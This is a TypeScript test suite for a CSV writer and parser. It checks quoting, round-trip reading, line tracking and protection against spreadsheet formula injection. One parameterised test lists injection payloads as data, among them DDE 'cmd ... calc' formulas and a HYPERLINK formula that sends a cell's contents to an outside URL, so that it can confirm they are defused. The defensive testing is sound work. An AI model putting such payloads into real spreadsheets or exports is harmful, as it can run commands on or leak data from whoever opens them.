import fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine, parseCsv } from "@/lib/csv";

test("cells with commas, quotes and line breaks are quoted", () => {
  expect(csvLine(["a", 'say "hi"', "x,y", "two\nlines", null, 7])).toBe('a,"say ""hi""","x,y","two\nlines",,7\r\n');
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\tx",
  "\rx",
  "\nx",
  "\0=1",
  "  =1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  "\uff20SUM(A1)",
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://example.com/?x="&A1,"Open")',
  "=1;=2",
  "-2+3+cmd|' /C calc'!A0",
  "@import",
])("%j is no formula any more", (cell) => {
  expect(csvLine([cell])).toMatch(/^"?'/);
});

test.each(["a;=1+1", "a\t=1+1", 'a",=1+1', "a\r\n=1+1"])("%j stays one cell for any separator", (cell) => {
  expect(csvLine([cell])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`);
});

test("numbers stay numbers", () => {
  expect(csvLine([-3])).toBe("-3\r\n");
});

/** RFC 4180, read the plain way. */
function parse(text: string): string[] {
  const cells: string[] = [];
  for (const [, cell = "", end] of text.slice(0, -2).matchAll(/("(?:[^"]|"")*"|[^",]*)(,|$)/g)) {
    cells.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === "") break;
  }
  return cells;
}

test("whatever the cells hold, a reader gets them back, and none begins a formula", () => {
  const cell = fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\0\",;' ax\uff1d") });
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
      const read = parse(csvLine(cells));
      expect(read.map((text) => text.replace(/^'/, ""))).toEqual(cells.map((text) => text.replace(/^'/, "")));
      expect(read.filter((text) => /^\s*[=+\-@\uff1d]|^[\t\r\0]/.test(text))).toEqual([]);
    }),
    { numRuns: 5000 },
  );
});

test("a text is read as it was written, with the line of each record", () => {
  const text = `name,note\r\n${csvLine(["Ada, B.", 'says "hi"\nand goes'])}\n\nBo, x `;
  expect(parseCsv(text)).toEqual([
    { line: 1, cells: ["name", "note"] },
    { line: 2, cells: ["Ada, B.", 'says "hi"\nand goes'] },
    { line: 6, cells: ["Bo", "x"] },
  ]);
  expect(parseCsv("")).toEqual([]);
  expect(parseCsv("a,\n,b")).toEqual([
    { line: 1, cells: ["a", ""] },
    { line: 2, cells: ["", "b"] },
  ]);
});

test.each(['a,b\n"a"b,c', 'a\nb"c', 'a\n"never ends'])("a quote that stands astray is told by its line: %j", (text) => {
  expect(() => parseCsv(text)).toThrow("Line 2: a quote stands where none can.");
});

test("whatever is written is read again", () => {
  const cell = fc.string({ unit: fc.constantFrom(..."\r\n\",;' abc") }).map((text) => text.trim());
  const record = fc.array(cell, { minLength: 2, maxLength: 4 });
  fc.assert(
    fc.property(fc.array(record, { minLength: 1 }), (records) => {
      const text = records.map(csvLine).join("");
      expect(parseCsv(text).map(({ cells }) => cells)).toEqual(records);
    }),
  );
});
